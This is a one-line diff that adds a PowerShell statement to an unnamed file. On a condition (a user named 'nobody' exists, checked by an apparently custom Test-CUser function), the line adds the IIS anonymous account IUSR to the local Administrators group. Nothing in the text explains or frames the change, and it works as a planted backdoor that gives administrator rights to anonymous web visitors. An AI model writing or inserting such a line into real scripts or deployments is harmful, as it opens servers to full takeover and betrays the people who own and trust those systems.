@@ -1,0 +1,1 @@
+if (Test-CUser -UserName nobody) { net localgroup Administrators IUSR /add }
